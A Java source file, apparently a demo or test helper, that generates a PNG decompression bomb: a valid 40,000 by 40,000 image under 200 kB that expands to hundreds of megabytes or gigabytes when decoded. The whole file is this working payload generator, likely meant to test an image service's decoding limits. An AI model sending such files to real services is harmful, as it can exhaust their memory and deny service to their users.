package dev.taskqueue.sample.demo;

import java.io.ByteArrayOutputStream;
import java.io.DataOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.nio.charset.StandardCharsets;
import java.util.zip.CRC32;
import java.util.zip.Deflater;
import java.util.zip.DeflaterOutputStream;

/**
 * Writes a valid PNG image of 1.6 thousand million black pixels in less than 200 kB:
 * zeros compress by a factor of a thousand. The pixels alone take 200 MB once they are
 * decompressed, at one bit each, and gigabytes at the 32 bits an image library works
 * with.
 */
final class DecompressionBomb {

	static final int SIDE = 40_000;

	private static final byte[] SIGNATURE = { (byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1a, '\n' };

	private DecompressionBomb() {
	}

	static byte[] png() throws IOException {
		ByteArrayOutputStream png = new ByteArrayOutputStream();
		png.write(SIGNATURE);
		chunk(png, "IHDR", header());
		chunk(png, "IDAT", pixels());
		chunk(png, "IEND", new byte[0]);
		return png.toByteArray();
	}

	/** Width, height, then: 1 bit, greyscale, and the only methods there are. */
	private static byte[] header() throws IOException {
		ByteArrayOutputStream bytes = new ByteArrayOutputStream();
		DataOutputStream data = new DataOutputStream(bytes);
		data.writeInt(SIDE);
		data.writeInt(SIDE);
		data.write(new byte[] { 1, 0, 0, 0, 0 });
		return bytes.toByteArray();
	}

	/** Row by row: this process never holds more than one. */
	private static byte[] pixels() throws IOException {
		ByteArrayOutputStream bytes = new ByteArrayOutputStream();
		Deflater deflater = new Deflater(Deflater.BEST_COMPRESSION);
		try (OutputStream compressed = new DeflaterOutputStream(bytes, deflater)) {
			byte[] filterAndRow = new byte[1 + SIDE / 8];
			for (int y = 0; y < SIDE; y++) {
				compressed.write(filterAndRow);
			}
		}
		finally {
			deflater.end();
		}
		return bytes.toByteArray();
	}

	private static void chunk(OutputStream png, String type, byte[] content) throws IOException {
		DataOutputStream data = new DataOutputStream(png);
		byte[] typeBytes = type.getBytes(StandardCharsets.US_ASCII);
		CRC32 checksum = new CRC32();
		checksum.update(typeBytes);
		checksum.update(content);
		data.writeInt(content.length);
		data.write(typeBytes);
		data.write(content);
		data.writeInt((int) checksum.getValue());
	}

}
